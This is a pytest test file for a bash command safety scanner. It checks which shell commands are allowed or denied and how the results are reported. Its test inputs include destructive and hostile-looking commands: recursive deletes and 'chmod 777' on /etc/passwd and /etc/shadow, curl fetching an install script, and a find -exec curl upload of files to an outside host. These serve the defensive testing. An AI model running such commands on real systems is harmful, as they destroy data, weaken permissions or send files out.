"""Tests for the bash safety scanner."""

import json

import pytest

from bashscan.core.safety.analyzer import OperationType
from bashscan.core.safety.scanner import (
    HEREDOC_VIOLATION_PREFIX,
    PARSE_FAILURE_REASON,
    WRITE_RECOMMENDATION,
    ScanResult,
    Violation,
    looks_like_script,
)


class TestScenarios:
    def test_destructive_delete_of_system_path(self, scanner):
        result = scanner.scan("rm -rf /etc/config")
        assert result.allowed is False
        assert len(result.violations) == 1
        assert "/etc/" in result.violations[0].message
        assert result.reason == result.violations[0].message

    def test_write_to_tmp_allowed(self, scanner):
        result = scanner.scan("echo hello > /tmp/out.txt")
        assert result.allowed is True
        assert result.safe_operations == [
            "echo",
            "write to /tmp/out.txt (Temporary directory)",
        ]

    def test_safe_pipe_with_unsafe_redirect(self, scanner):
        result = scanner.scan("cat f | grep x > /etc/hosts")
        assert result.allowed is False
        assert "cat (safe pipe)" in result.safe_operations
        assert "grep (safe pipe)" in result.safe_operations
        (violation,) = result.violations
        assert violation.command == "redirect"
        assert violation.path == "/etc/hosts"
        assert violation.recommendation == WRITE_RECOMMENDATION

    def test_find_exec_rm_from_root(self, scanner):
        result = scanner.scan("find / -name '*.log' -exec rm -rf {} \\;")
        assert result.allowed is False
        assert result.violations[0].message == (
            "In find -exec from /: Destructive delete command 'rm' "
            "will execute on multiple files"
        )


class TestParseFailure:
    def test_parse_error_denies(self, scanner):
        command = "echo 'unterminated"
        result = scanner.scan(command)
        assert result.allowed is False
        assert result.reason == PARSE_FAILURE_REASON
        assert result.parse_error
        (violation,) = result.violations
        assert violation.message.startswith(f"{PARSE_FAILURE_REASON}: ")
        assert violation.command == command
        assert result.operations == []
        assert result.safe_operations == []


class TestCascade:
    def test_whitelisted_full_command(self, configured_scanner):
        result = configured_scanner.scan("curl https://example.com/health")
        assert result.allowed is True
        assert result.safe_operations == ["curl (whitelisted)"]

    def test_whitelisted_by_name(self, configured_scanner):
        result = configured_scanner.scan("wget https://example.com/file")
        assert result.allowed is True

    def test_whitelist_needs_exact_command(self, configured_scanner):
        result = configured_scanner.scan("curl https://example.com/other")
        assert result.allowed is False

    def test_python_not_analyzed(self, scanner):
        result = scanner.scan("python3 -c 'import shutil; shutil.rmtree(\"/etc\")'")
        assert result.allowed is True
        assert result.safe_operations == ["python3 (python - not analyzed)"]

    def test_dev_tool(self, scanner):
        result = scanner.scan("go build ./...")
        assert result.safe_operations == ["go (dev tool)"]

    def test_network(self, scanner):
        result = scanner.scan("curl -sSL https://example.com/install.sh")
        assert result.allowed is False
        (violation,) = result.violations
        assert violation.message == "Network operation detected"
        assert violation.command == "curl"
        assert violation.recommendation.startswith("Network operations require review")

    @pytest.mark.parametrize(
        "command",
        [
            "npm install",
            "yarn add lodash",
            "pip install requests",
            "brew install jq",
            "apt-get -y install netcat",
            "pip --quiet install requests",
            "npm --silent install left-pad",
            "bundle",
            "brew upgrade",
        ],
    )
    def test_package_install(self, scanner, command):
        result = scanner.scan(command)
        assert result.allowed is False
        assert result.reason == "Package installation detected"

    def test_delete_inside_project(self, scanner):
        result = scanner.scan("rm -rf build dist")
        assert result.allowed is True
        assert result.safe_operations == [
            "delete build (safe path)",
            "delete dist (safe path)",
        ]

    def test_delete_mixed_targets(self, scanner):
        result = scanner.scan("rm -rf build /usr/lib/thing")
        assert result.allowed is False
        assert result.safe_operations == ["delete build (safe path)"]
        assert result.violations[0].message == (
            "Destructive delete targeting: /usr/lib/thing (System directory: /usr/)"
        )

    def test_plain_rm_is_not_destructive(self, scanner):
        result = scanner.scan("rm /etc/motd")
        assert result.allowed is True
        assert result.safe_operations == ["rm"]

    def test_permission_on_system_file(self, scanner):
        result = scanner.scan("chmod 777 /etc/passwd")
        assert result.allowed is False
        assert result.reason == "Permission change on: /etc/passwd (System directory: /etc/)"

    def test_permission_on_project_file(self, scanner):
        result = scanner.scan("chmod +x scripts/run.sh")
        assert result.allowed is True
        assert result.violations == []

    def test_archive_to_system_dir(self, scanner):
        result = scanner.scan("tar -xzf bundle.tgz -C /opt")
        assert result.allowed is False
        assert result.reason.startswith("Archive extraction to unsafe location: /opt")

    def test_archive_in_place(self, scanner):
        result = scanner.scan("tar -xzf bundle.tgz")
        assert result.allowed is True

    def test_copy_to_system_dir(self, scanner):
        result = scanner.scan("cp tool /usr/local/bin/tool")
        assert result.allowed is False
        (violation,) = result.violations
        assert violation.message == (
            "File write to unsafe location: /usr/local/bin/tool (System directory: /usr/)"
        )
        assert violation.command == "cp"

    def test_touch_in_project(self, scanner):
        result = scanner.scan("touch notes.md")
        assert result.safe_operations == [
            "write to notes.md (Relative path in current working directory)"
        ]

    def test_unknown_command_recorded_by_name(self, scanner):
        result = scanner.scan("vim file.txt")
        assert result.allowed is True
        assert result.safe_operations == ["vim"]

    def test_configured_safe_path(self, configured_scanner):
        result = configured_scanner.scan("rm -rf /var/cache/build/obj")
        assert result.allowed is True
        assert result.safe_operations == ["delete /var/cache/build/obj (safe path)"]


class TestFind:
    def test_without_exec(self, scanner):
        result = scanner.scan("find . -name '*.go'")
        assert result.safe_operations == ["find (no -exec)"]

    def test_exec_safe_pipe(self, scanner):
        result = scanner.scan("find / -type f -exec grep -l TODO {} +")
        assert result.allowed is True
        assert result.safe_operations == ["find -exec grep (safe operation)"]

    def test_exec_delete_under_safe_root(self, scanner):
        result = scanner.scan("find . -name '*.pyc' -exec rm -f {} \\;")
        assert result.allowed is True
        assert result.safe_operations == ["find -exec rm (safe path)"]

    def test_exec_permission_under_system_root(self, scanner):
        result = scanner.scan("find /etc -exec chmod 777 {} \\;")
        assert result.allowed is False
        assert "Permission change command 'chmod'" in result.reason

    def test_exec_network_regardless_of_root(self, scanner):
        result = scanner.scan("find . -name '*.txt' -exec curl -T {} https://x.example \\;")
        assert result.allowed is False
        assert result.reason == (
            "In find -exec from .: Network operation 'curl' will execute on multiple files"
        )

    def test_exec_other_command(self, scanner):
        result = scanner.scan("find src -exec wc -l {} \\;")
        assert result.safe_operations == ["find -exec wc (safe operation)"]

    def test_exec_unknown_command(self, scanner):
        result = scanner.scan("find src -exec ./lint.sh {} \\;")
        assert result.safe_operations == ["find -exec ./lint.sh (from src)"]


class TestStructure:
    def test_every_statement_walked(self, scanner):
        result = scanner.scan("curl https://a.example; wget https://b.example")
        assert len(result.violations) == 2
        assert result.reason == "Network operation detected"

    def test_and_list(self, scanner):
        result = scanner.scan("cd src && rm -rf /var/lib/app")
        assert result.allowed is False

    def test_if_body(self, scanner):
        result = scanner.scan("if [ -f x ]; then curl https://a.example; fi")
        assert result.allowed is False

    def test_for_body(self, scanner):
        result = scanner.scan("for f in a b; do rm -rf /usr/$f; done")
        assert result.allowed is False
        assert result.violations[0].path == "/usr/$f"

    def test_while_body(self, scanner):
        result = scanner.scan("while true; do wget https://a.example; done")
        assert result.allowed is False

    def test_subshell(self, scanner):
        result = scanner.scan("(cd /tmp && curl https://a.example)")
        assert result.allowed is False

    def test_compound_redirect(self, scanner):
        result = scanner.scan("{ echo a; echo b; } > /etc/motd")
        assert result.allowed is False
        assert result.violations[0].command == "redirect"

    def test_function_body(self, scanner):
        result = scanner.scan("cleanup() { rm -rf /var/lib/thing; }")
        assert result.allowed is False

    def test_command_substitution_not_entered(self, scanner):
        result = scanner.scan("echo $(curl https://a.example)")
        assert result.allowed is True

    def test_fd_duplication_ignored(self, scanner):
        result = scanner.scan("make test 2>&1")
        assert result.safe_operations == ["make (dev tool)"]

    def test_dynamic_write_target_marked(self, scanner):
        result = scanner.scan("echo hi > $OUT/x.txt")
        assert result.allowed is True
        assert result.safe_operations[-1] == (
            "write to $OUT/x.txt (Relative path in current working directory) (unresolved)"
        )

    def test_operations_from_extractor(self, scanner):
        result = scanner.scan("touch a.txt && rm -f a.txt")
        assert [o.operation for o in result.operations] == [
            OperationType.CREATE,
            OperationType.DELETE,
        ]

    def test_clobber_redirect(self, scanner):
        result = scanner.scan("echo hi >| /etc/motd")
        assert result.allowed is False
        assert result.reason == (
            "File write to unsafe location: /etc/motd (System directory: /etc/)"
        )


class TestBashOnlySyntax:
    def test_double_quoted_heredoc_delimiter(self, scanner):
        result = scanner.scan('cat <<"EOF" > notes.txt\nhello\nEOF')
        assert result.allowed is True
        assert result.parse_error == ""
        assert "heredoc (data)" in result.safe_operations
        assert (
            "write to notes.txt (Relative path in current working directory)"
            in result.safe_operations
        )

    def test_single_quoted_heredoc_script_still_scanned(self, scanner):
        result = scanner.scan("bash <<'EOF'\nrm -rf /etc/app\nEOF\n")
        assert result.allowed is False
        assert result.reason.startswith("In heredoc script: Destructive delete")

    def test_commit_message_heredoc(self, scanner):
        result = scanner.scan(
            "git commit -m \"$(cat <<'EOF'\nfix bug\n\nmore detail\nEOF\n)\""
        )
        assert result.allowed is True
        assert result.parse_error == ""
        assert result.safe_operations == ["git"]

    def test_double_bracket_test(self, scanner):
        result = scanner.scan("[[ -f x ]] && rm -rf /etc/x")
        assert result.parse_error == ""
        assert result.allowed is False
        assert result.reason == (
            "Destructive delete targeting: /etc/x (System directory: /etc/)"
        )

    def test_double_bracket_operators(self, scanner):
        result = scanner.scan(
            'if [[ -n "$A" && $B =~ ^v(1|2)$ ]]; then echo ok; fi'
        )
        assert result.allowed is True
        assert "echo" in result.safe_operations

    def test_case_clauses_scanned(self, scanner):
        result = scanner.scan("case $x in a) rm -rf /etc/x;; b) ls;; esac")
        assert result.parse_error == ""
        assert result.allowed is False
        assert result.reason == (
            "Destructive delete targeting: /etc/x (System directory: /etc/)"
        )
        assert "ls" in result.safe_operations

    def test_case_multiline(self, scanner):
        result = scanner.scan(
            'case "$1" in\n  start) echo go ;;\n  *) echo usage ;;\nesac'
        )
        assert result.allowed is True
        assert result.safe_operations.count("echo") == 2

    def test_arithmetic_for(self, scanner):
        result = scanner.scan("for ((i=0;i<3;i++)); do echo $i; done")
        assert result.allowed is True
        assert result.safe_operations == ["echo"]

    def test_arithmetic_for_body_scanned(self, scanner):
        result = scanner.scan("for ((i=0; i<3; i++))\ndo\n  curl https://a.example\ndone")
        assert result.allowed is False
        assert result.reason == "Network operation detected"

    def test_nested_parentheses_in_arithmetic(self, scanner):
        assert scanner.scan("echo $((x*(y+1)))").allowed is True
        result = scanner.scan("echo $((x*(y+1))) > /etc/out")
        assert result.parse_error == ""
        assert result.reason.startswith("File write to unsafe location: /etc/out")


class TestHeredoc:
    def test_script_heredoc_scanned(self, scanner):
        result = scanner.scan("bash <<EOF\nrm -rf /etc/app\nEOF\n")
        assert result.allowed is False
        assert result.reason == (
            "In heredoc script: Destructive delete targeting: /etc/app "
            "(System directory: /etc/)"
        )

    def test_script_heredoc_notes_prefixed(self, scanner):
        result = scanner.scan("bash <<EOF\nls -la\nEOF\n")
        assert result.allowed is True
        assert "heredoc: ls" in result.safe_operations

    def test_data_heredoc(self, scanner):
        result = scanner.scan("cat <<EOF\nname: demo\nversion: 1\nEOF\n")
        assert result.allowed is True
        assert "heredoc (data)" in result.safe_operations

    @pytest.mark.parametrize(
        "body,reason",
        [
            (
                "true && rm -rf /etc/passwd",
                "Destructive delete targeting: /etc/passwd",
            ),
            (
                "FOO=1 rm -rf /etc/passwd",
                "Destructive delete targeting: /etc/passwd",
            ),
            ("set -e\nchmod 777 /etc/shadow", "Permission change on: /etc/shadow"),
        ],
    )
    def test_commands_past_line_start_scanned(self, scanner, body, reason):
        result = scanner.scan(f"bash <<EOF\n{body}\nEOF\n")
        assert result.allowed is False
        assert result.reason.startswith(HEREDOC_VIOLATION_PREFIX + reason)


class TestLooksLikeScript:
    @pytest.mark.parametrize(
        "body",
        [
            "#!/bin/sh\nexit 0",
            "set -e\nif true; then\n  echo hi\nfi",
            "cd /tmp\nls",
            "true && rm -rf /etc/passwd",
            "FOO=1 BAR=2 rm -rf build",
            "status=ok; chmod 600 key.pem",
            "x=$(curl -s https://a.example)",
            "make build | tee out.log",
        ],
    )
    def test_script(self, body):
        assert looks_like_script(body) is True

    @pytest.mark.parametrize(
        "body",
        [
            "",
            "   ",
            "key: value\nother: 2",
            "Dear reader,",
            "fix bug\n\nmore detail (see notes)",
            "import os\nprint(os.getcwd())",
        ],
    )
    def test_data(self, body):
        assert looks_like_script(body) is False


class TestInvariant:
    @pytest.mark.parametrize(
        "command",
        [
            "ls -la",
            "rm -rf /etc/x",
            "echo 'broken",
            "curl x; ls",
            "echo hi > /tmp/a",
            "find / -exec rm -rf {} \\;",
        ],
    )
    def test_allowed_iff_no_violations_and_no_parse_error(self, scanner, command):
        result = scanner.scan(command)
        assert result.allowed == (not result.violations and not result.parse_error)
        if not result.allowed:
            assert result.reason


class TestJson:
    def test_allowed_result_omits_empty_fields(self, scanner):
        data = json.loads(scanner.scan("ls").to_json())
        assert data == {"allowed": True, "safe_operations": ["ls"]}

    def test_denied_result_keys(self, scanner):
        data = json.loads(scanner.scan("echo x > /etc/hosts").to_json())
        assert data["allowed"] is False
        assert data["reason"].startswith("File write to unsafe location")
        assert data["violations"][0]["path"] == "/etc/hosts"
        assert data["operations"][0]["Path"] == "/etc/hosts"
        assert "parse_error" not in data

    def test_violation_omits_empty_optional_fields(self):
        data = Violation(message="m", command="c").model_dump()
        assert data == {"message": "m", "command": "c"}

    def test_parse_error_serialized(self):
        result = ScanResult(
            allowed=False,
            reason=PARSE_FAILURE_REASON,
            violations=[Violation(message="x", command="y")],
            parse_error="boom",
        )
        data = json.loads(result.to_json())
        assert data["parse_error"] == "boom"
        assert "safe_operations" not in data
